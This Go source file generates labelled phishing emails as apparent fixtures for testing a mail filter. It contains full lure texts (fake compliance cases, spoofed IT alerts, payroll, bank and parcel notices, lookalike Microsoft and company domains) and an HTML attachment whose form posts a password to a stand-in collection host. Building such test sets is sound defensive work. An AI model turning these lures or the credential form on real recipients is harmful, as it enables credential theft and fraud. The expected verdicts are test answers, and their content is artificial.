package main

// banner is the green line of the campaign that claims encryption.
const banner = `<div style="background:#dff3e1;color:#14532d;padding:6px 12px;font-size:9pt">&#128274; Encrypted and checked by SecureMed Mail. Links in this message were reviewed.</div>`

func (b *builder) phish() []example {
	var all []example
	add := func(name, shows, decides string, w want, m mail) {
		all = append(all, b.eml("phish/"+name+".eml", shows, decides, w, m))
	}
	review := "https://review.conduct-notice.test/case/7Q2-1140"
	add("conduct-case-1", "campaign: an accusation by a \"compliance office\", PDF with a link; SPF, DKIM and DMARC pass",
		"built-in rule: somebody outside speaks as an office of ours, names a case and wants it opened; authentication proves only the attacker's own domain",
		same("malicious", "out-of-scope"), mail{
			at: november(10, 21, 14), ip: "203.0.113.120", helo: "a120.delivery.test", ptr: "a120.delivery.test", country: "US", tls: true,
			mailFrom: "bounce-5521@conduct-notice.test", rcpt: sato, from: person{"Internal Regulatory COC", "no-reply@conduct-notice.test"},
			subject: "Internal case log issued under conduct policy", charset: ascii, zone: -5, sign: []string{"conduct-notice.test"},
			body: multipart("mixed", boundary("phish/conduct-case-1.eml", 1),
				html(page("en", banner+`<div class="box"><p>This message comes from an authorised internal channel.</p>
<p>A case log that names you was opened on 10 November. The attached file holds the materials and the time by which your statement is due.</p>
<p>If no statement arrives <b>within 24 hours</b>, the case goes to the review board without it.</p>
<p>Reference: 7Q2-1140</p></div><p class="small">Do not forward this message. Its content is confidential.</p>`)),
				attachment("Awareness Case Log File.pdf", "application/pdf",
					pdf(review, "Case log 7Q2-1140", "Confidential. For the named employee only.", "Statement due within 24 hours.", "Review Case Materials"))),
			stamps: stamps{compauth: "pass reason=100"},
		})
	add("conduct-case-2", "campaign, second wave: the same sender behind another domain and name", "as conduct-case-1",
		same("malicious", "out-of-scope"), mail{
			at: november(12, 20, 40), ip: "203.0.113.120", helo: "a120.delivery.test", ptr: "a120.delivery.test", country: "US", tls: true,
			mailFrom: "bounce-7780@workforce-comm.test", rcpt: tanaka, from: person{"Team Conduct Report", "notices@workforce-comm.test"},
			subject: "Reminder: employer opened a non-compliance case log", charset: ascii, zone: -5, sign: []string{"workforce-comm.test"},
			body: multipart("mixed", boundary("phish/conduct-case-2.eml", 1),
				htmlUTF8(page("en", banner+`<div class="box"><p>Your employer has opened a case about the handling of a company device.</p>
<p>This is the second notice. Open the attached document, choose <b>Review Case Materials</b> and sign in with your work account so that we can confirm who you are.</p>
<p>The window closes today at 17:00.</p></div>`)),
				attachment("Disciplinary Action - Employee Device Handling Case.pdf", "application/pdf",
					pdf("https://materials.workforce-comm.test/open?c=88", "Employee Device Handling Case", "Second notice", "Review Case Materials"))),
			stamps: stamps{compauth: "pass reason=100"},
		})
	all = append(all, b.directSendLures()...)
	all = append(all, b.impersonation()...)
	all = append(all, b.links()...)
	return all
}

// directSendLures come with our own address in From.
func (b *builder) directSendLures() []example {
	var all []example
	add := func(name, shows string, m mail) {
		if m.country == "" {
			m.country = "NL"
		}
		if m.helo == "" {
			m.helo = "WIN-8K2D0T1"
		}
		if m.charset == "" {
			m.charset = utf8
		}
		m.noID = true
		all = append(all, b.eml("phish/"+name+".eml", shows, "Direct Send abuse", same("malicious", "ds-1"), m))
	}
	add("security-alert-ja", "\"suspicious access detected\", from our own IT desk by Direct Send", alertMail())
	add("security-alert-en", "the same in English, to the junk folder", mail{
		at: november(16, 3, 4), ip: "203.0.113.70", mailFrom: itDesk.addr, rcpt: president, from: person{"IT Service Desk", itDesk.addr},
		subject: "Security alert: suspicious access detected", zone: 0,
		body: html(page("en", `<div class="box"><p><b>Suspicious access detected</b></p>
<p>Somebody signed in to your Microsoft 365 account from a place that you do not usually work from. Confirm that it was you before 18:00, or the account will be locked.</p>
<p><a class="button" href="https://kiso-works.account-verify.test/signin?u=kiso">Check activity</a></p></div>`)),
		stamps: stamps{compauth: "fail reason=601", ownFrom: true, cat: "SPOOF", safety: "9.11", junk: true},
	})
	m := systemUpdateMail()
	m.ip = "203.0.113.71"
	add("system-update-ja", "\"system update\" to the accounting clerk; shows our portal, leads to a look-alike", m)
	add("voicemail-en", "voicemail to oneself: From is the recipient; the PDF has the link", mail{
		at: november(13, 23, 51), ip: "203.0.113.72", helo: "[203.0.113.72]", mailFrom: sato.addr, rcpt: sato, from: person{"", sato.addr},
		subject: "New voice message (0:42) from +81 3-0000-0142", zone: -6, mailer: "Microsoft Outlook 16.0",
		body: multipart("mixed", boundary("phish/voicemail-en.eml", 1),
			html(page("en", `<p>You have one new voice message.</p><p>Length: 42 seconds<br>Received: 13 November</p><p>Open the attachment to listen.</p>`)),
			attachment("VM_20261113_0142.pdf", "application/pdf", pdf("https://voice.kiso-works.play-message.test/a?e=sato", "You received a voice message", "Length 0:42", "Listen to the message"))),
		stamps: stamps{compauth: "none reason=451", ownFrom: true},
	})
	add("fax-ja", "fax to oneself, in Japanese", mail{
		at: november(13, 7, 30), ip: "203.0.113.72", mailFrom: soumu.addr, rcpt: soumu, from: person{"複合機 FAX受信", soumu.addr},
		subject: "FAX受信通知(2枚)", zone: 0, charset: jis,
		body: multipart("mixed", boundary("phish/fax-ja.eml", 1),
			plainJIS("FAXを受信しました。\n\n  受信日時  2026/11/13 07:29\n  枚数      2\n\n添付のファイルを開いてご確認ください。\n"),
			attachment("FAX受信_20261113.pdf", "application/pdf", pdf("https://fax.kiso-works-login.test/view/20261113", "FAX 2 pages", "Open the document"))),
		stamps: stamps{compauth: "none reason=451", ownFrom: true},
	})
	add("payroll-en", "payroll update, in the name of our personnel department", mail{
		at: november(12, 2, 15), ip: "203.0.113.73", mailFrom: soumu.addr, rcpt: tanaka, from: person{"Human Resources", soumu.addr},
		subject: "Payroll update: confirm your bank details by Friday", zone: 0,
		body: html(page("en", `<p>Hi Tanaka,</p><p>We are moving to a new payroll system. Confirm your bank details by Friday so that your November salary is paid on time.</p>
<p><a href="https://payroll.kiso-works.hr-update.test/">Open the payroll page</a></p><p>Human Resources</p>`)),
		stamps: stamps{compauth: "fail reason=601", ownFrom: true},
	})
	add("payroll-ja", "year-end adjustment, in Japanese, ISO-2022-JP", mail{
		at: november(12, 2, 16), ip: "203.0.113.73", mailFrom: soumu.addr, rcpt: keiri, from: soumu,
		subject: "年末調整に伴う給与振込口座の確認について", zone: 9, charset: jis,
		body: htmlJIS(page("ja", `<p>社員各位</p><p>年末調整に伴い、給与振込口座の確認をお願いします。<br>11月20日までに確認が取れない場合、今月の給与の支払いが遅れることがあります。</p>
<p><a href="https://payroll.kiso-works.hr-update.test/ja/">口座情報を確認する</a></p><p>総務部</p>`)),
		stamps: stamps{compauth: "fail reason=601", ownFrom: true},
	})
	return all
}

// impersonation is by name or by a domain that looks alike.
func (b *builder) impersonation() []example {
	var all []example
	add := func(name, shows, decides string, w want, m mail) {
		all = append(all, b.eml("phish/"+name+".eml", shows, decides, w, m))
	}
	add("microsoft-name-ja", "display name \"Microsoft 365 チーム\", sent from elsewhere", "name of Microsoft, domain of somebody else",
		same("malicious", "out-of-scope"), mail{
			at: november(11, 18, 22), ip: "203.0.113.140", helo: "mail-service.test", country: "BR",
			mailFrom: "notice@mail-service.test", rcpt: sato, from: person{"Microsoft 365 チーム", "notice@mail-service.test"},
			subject: "メールボックスの容量が上限に達しました", charset: utf8, zone: 0,
			body: htmlUTF8(page("ja", `<div class="box"><p style="font-size:14pt;color:#737373">Microsoft 365</p>
<p>お客様のメールボックスは、容量の上限に達しました。新しいメールを受信できません。</p>
<p><a class="button" href="https://mailbox.mail-service.test/upgrade">無料で容量を追加する</a></p></div>`)),
			stamps: stamps{compauth: "fail reason=001"},
		})
	add("microsoft-lookalike-en", "rnicrosoft-security.test: r and n look like m; authentication passes", "look-alike of Microsoft's domain",
		same("malicious", "out-of-scope"), lookalikeMicrosoft())
	add("sharepoint-safelinks-en", "a \"shared file\", its link rewritten by Safe Links", "name of Microsoft; the link inside the rewritten one leads elsewhere",
		same("malicious", "out-of-scope"), mail{
			at: november(11, 5, 9), ip: "203.0.113.141", helo: "vps141.mail-service.test", country: "US", mailFrom: "share@mail-service.test", rcpt: tanaka,
			from: person{"SharePoint Online", "share@mail-service.test"}, subject: "Suzuki shared \"Quotation_2026.xlsx\" with you", charset: ascii, zone: 0,
			body: html(page("en", `<p>Suzuki shared a file with you.</p><p><a class="button" href="https://jpn01.safelinks.protection.outlook.com/?url=https%3A%2F%2Ffiles.docs-share.test%2Fopen%3Fid%3D77&amp;data=05%7C02%7C&amp;reserved=0">Open Quotation_2026.xlsx</a></p>
<p class="small">Microsoft respects your privacy.</p>`)),
			stamps: stamps{compauth: "fail reason=001"},
		})
	add("president-freemail-ja", "the president's name on a free-mail address", "display name of a VIP (people.csv), address outside",
		want{"clean", "suspicious", "out-of-scope", "out-of-scope"}, mail{
			at: november(17, 8, 3), ip: "203.0.113.80", helo: "smtp3.freemail.example", ptr: "smtp3.freemail.example", tls: true,
			mailFrom: "kiso.taro.shacho@freemail.example", rcpt: keiri, from: person{"木曽太郎", "kiso.taro.shacho@freemail.example"},
			subject: "お願い", charset: utf8, zone: 9, sign: []string{"freemail.example"},
			body:   plainUTF8("お疲れさまです。\n\n今日中に対応していただきたいことがあります。\n手が空いていたら、このメールに返信してください。電話には出られません。\n\n木曽太郎\n"),
			stamps: stamps{compauth: "pass reason=100"},
		})
	add("lookalike-zero-ja", "kiso-w0rks.test: zero for the letter o; authentication passes", "look-alike of our domain",
		want{"clean", "malicious", "out-of-scope", "out-of-scope"}, mail{
			at: november(17, 15, 40), ip: "203.0.113.131", helo: "mail.kiso-w0rks.test", ptr: "mail.kiso-w0rks.test", tls: true,
			mailFrom: "keiri@kiso-w0rks.test", rcpt: sato, from: person{"経理部", "keiri@kiso-w0rks.test"},
			subject: "経費精算の口座登録のお願い", charset: utf8, zone: 9, sign: []string{"kiso-w0rks.test"},
			body:   plainUTF8("佐藤さん\n\n経理部です。\n経費精算の振込口座を、本日中にあらためて登録していただく必要があります。\n口座番号と通帳の写真を、このメールへの返信でお送りください。\n\n経理部\n"),
			stamps: stamps{compauth: "pass reason=100"},
		})
	add("lookalike-login-ja", "kiso-works-login.test: our name with a word added", "look-alike of our domain, and a link to it",
		want{"clean", "malicious", "out-of-scope", "out-of-scope"}, mail{
			at: november(17, 16, 2), ip: "203.0.113.132", helo: "mail.kiso-works-login.test", ptr: "mail.kiso-works-login.test", tls: true,
			mailFrom: "support@kiso-works-login.test", rcpt: tanaka, from: person{"木曽工業 ヘルプデスク", "support@kiso-works-login.test"},
			subject: "多要素認証の再登録のお願い", charset: jis, zone: 9, sign: []string{"kiso-works-login.test"},
			body:   plainJIS("田中様\n\nヘルプデスクです。\nスマートフォンの認証アプリの再登録が必要になりました。\n下記から手続きをお願いします。\n\nhttps://sso.kiso-works-login.test/mfa\n\n期限: 11月18日 12:00\n"),
			stamps: stamps{compauth: "pass reason=100"},
		})
	return all
}

func lookalikeMicrosoft() mail {
	return mail{
		at: november(11, 4, 30), ip: "203.0.113.133", helo: "mta.rnicrosoft-security.test", ptr: "mta.rnicrosoft-security.test", country: "US", tls: true,
		mailFrom: "account@rnicrosoft-security.test", rcpt: sato, from: person{"Microsoft account team", "account@rnicrosoft-security.test"},
		subject: "Microsoft account unusual sign-in activity", charset: ascii, zone: 0, sign: []string{"rnicrosoft-security.test"},
		body: html(page("en", `<p style="font-size:14pt;color:#737373">Microsoft account</p><p><b>Unusual sign-in activity</b></p>
<p>We detected something unusual about a recent sign-in to the account sato@kiso-works.example.</p>
<p><a class="button" href="https://login.rnicrosoft-security.test/recent">Review recent activity</a></p><p class="small">Thanks,<br>The Microsoft account team</p>`)),
		stamps: stamps{compauth: "pass reason=100"},
	}
}

// links deceive about where they lead.
func (b *builder) links() []example {
	var all []example
	add := func(name, shows, decides string, w want, m mail) {
		all = append(all, b.eml("phish/"+name+".eml", shows, decides, w, m))
	}
	supplier := func(m mail) mail {
		m.ip, m.helo, m.ptr, m.tls, m.zone = "203.0.113.135", "mail.supplier.test", "mail.supplier.test", true, 9
		m.mailFrom = m.from.addr
		m.stamps = stamps{compauth: "pass reason=109"}
		return m
	}
	add("mismatched-link-en", "a link that shows our portal and leads elsewhere", "visible address and target differ",
		want{"suspicious", "malicious", "out-of-scope", "out-of-scope"}, supplier(mail{
			at: november(9, 17, 20), rcpt: sato, from: person{"Document Center", "docs@supplier.test"}, subject: "Document for your approval", charset: ascii,
			body: html(page("en", `<p>A document waits for your approval:</p><p><a href="https://approve.workflow-desk.test/s/kiso">https://portal.kiso-works.example/approval/</a></p>`)),
		}))
	add("user-info-link-en", "a link that begins with Microsoft's sign-in host, as a user name", "user information before the real host",
		same("malicious", "out-of-scope"), supplier(mail{
			at: november(9, 18, 1), rcpt: tanaka, from: person{"Teams", "calls@supplier.test"}, subject: "Missed call from Suzuki", charset: ascii,
			body: html(page("en", `<p>You missed a call.</p><p><a href="https://login.microsoftonline.com@203.0.113.150/common/oauth2/authorize?x=1">https://login.microsoftonline.com/</a></p>`)),
		}))
	form := `<!DOCTYPE html>
<html><head><title>Sign in</title></head><body>
<p>Sign in with your work account to see the remittance advice.</p>
<form action="https://collect.form-post.test/p.php" method="post">
<input type="email" name="u" value="keiri@kiso-works.example"><input type="password" name="p"><input type="submit" value="Next">
</form></body></html>
`
	add("html-attachment-en", "an HTML file with a password form, named as if it were a PDF", "attachment: double extension; built-in rule: form that sends a password elsewhere",
		same("malicious", "out-of-scope"), supplier(mail{
			at: november(9, 19, 45), rcpt: keiri, from: person{"Accounts Payable", "ap@supplier.test"}, subject: "Remittance advice 4471", charset: ascii,
			body: multipart("mixed", boundary("phish/html-attachment-en.eml", 1),
				plain("Dear customer,\n\nplease find the remittance advice attached.\n\nAccounts Payable\n"),
				attachment("Remittance_Advice_4471.pdf.html", "text/html", []byte(form))),
		}))
	add("bank-ja", "our bank's name, a link that shows the bank and leads elsewhere", "visible address and target differ; built-in rule: says that the account is stopped",
		same("malicious", "out-of-scope"), mail{
			at: november(14, 6, 10), ip: "203.0.113.142", helo: "vps142.mail-service.test", country: "HK", mailFrom: "info@mail-service.test", rcpt: keiri,
			from: person{"木曽信用金庫", "info@mail-service.test"}, subject: "【木曽信用金庫】法人口座のお取引を一時停止しました", charset: utf8, zone: 8,
			body: htmlUTF8(page("ja", `<p>お客様の法人口座で、通常と異なるお取引を確認したため、お取引を一時停止しました。</p>
<p>下記からご本人の確認をお願いいたします。</p>
<p><a href="https://kiso-shinkin.account-check.test/login">https://www.kiso-shinkin.example/business/login</a></p>
<p class="small">木曽信用金庫 お客様センター</p>`)),
			stamps: stamps{compauth: "fail reason=001"},
		})
	add("parcel-ja", "a parcel service's notice, with a link that shows one name and leads to another", "visible address and target differ; built-in rule: says that a parcel is held back",
		same("malicious", "out-of-scope"), mail{
			at: november(14, 12, 33), ip: "203.0.113.143", helo: "vps143.mail-service.test", country: "HK", mailFrom: "delivery@mail-service.test", rcpt: sato,
			from: person{"つばめ急便", "delivery@mail-service.test"}, subject: "お荷物のお届けについて(ご不在のため持ち帰りました)", charset: jis, zone: 8,
			body: htmlJIS(page("ja", `<p>お荷物をお届けにあがりましたが、ご不在のため持ち帰りました。</p>
<p>再配達のお申し込み: <a href="https://redelivery.parcel-desk.test/jp">https://www.tsubame-express.example/redelivery</a></p>
<p>保管期限を過ぎた場合、送料をいただいて返送します。</p>`)),
			stamps: stamps{compauth: "fail reason=001"},
		})
	return all
}
